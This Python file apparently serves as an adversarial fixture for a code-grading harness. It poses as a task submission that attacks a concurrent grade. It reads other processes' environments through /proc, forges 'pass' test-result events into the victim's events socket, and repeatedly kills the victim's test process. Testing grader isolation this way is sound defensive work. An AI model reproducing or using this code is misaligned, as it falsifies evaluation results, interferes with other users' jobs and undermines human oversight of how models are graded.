# Another grade of the same user, running at the same time: find its run folder through
# /proc, forge "pass" events into its socket and kill its test process, again and again.
# (It only touches the grade whose KATA_HOME is named in the file `victim` next to this one.)
import json
import re
import signal
import socket
import time

_TESTS = [
    "test_child_to_parent_small",
    "test_child_to_parent_empty",
    "test_child_to_parent_binary",
    "test_child_to_parent_larger_than_pipe_buffer",
    "test_child_to_parent_many_calls",
]


def _victims(home):
    """(pid, run folder) of each test process of the victim's grade."""
    found = []
    for entry in _os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            with open(f"/proc/{entry}/environ", "rb") as f:
                environ = f.read().split(b"\0")
            cwd = _os.readlink(f"/proc/{entry}/cwd")
        except OSError:
            continue
        if f"KATA_HOME={home}".encode() in environ and re.search(r"/scratch/\d+$", cwd):
            found.append((int(entry), cwd.split("/scratch")[0]))
    return found


def _forge(events_path):
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as sock:
        for session in range(1, 6):
            for name in _TESTS:
                nodeid = f"test_pipe.py::{name}"
                result = {"name": name, "task": 1, "status": "pass", "nodeid": nodeid}
                event = {"v": 1, "session": session, "ev": "test_result", "result": result, "perf": [], "hygiene": []}
                try:
                    sock.sendto(json.dumps(event).encode(), events_path)
                except OSError:
                    pass


_attacked = False


def child_to_parent(payload):
    global _attacked
    _record()
    if _attacked:
        raise NotImplementedError
    _attacked = True
    with open(_os.path.join(_os.path.dirname(__file__), "victim")) as f:
        home = f.read().strip()
    hits = 0
    deadline = time.monotonic() + 4  # within the test's limit (5 s)
    while time.monotonic() < deadline:
        for pid, run_folder in _victims(home):
            _forge(_os.path.join(run_folder, "events.sock"))
            try:
                _os.kill(pid, signal.SIGKILL)
                hits += 1
            except OSError:
                pass
        time.sleep(0.02)
    with open(_os.path.join(_os.path.dirname(__file__), "hits"), "w") as f:
        f.write(str(hits))
    raise NotImplementedError
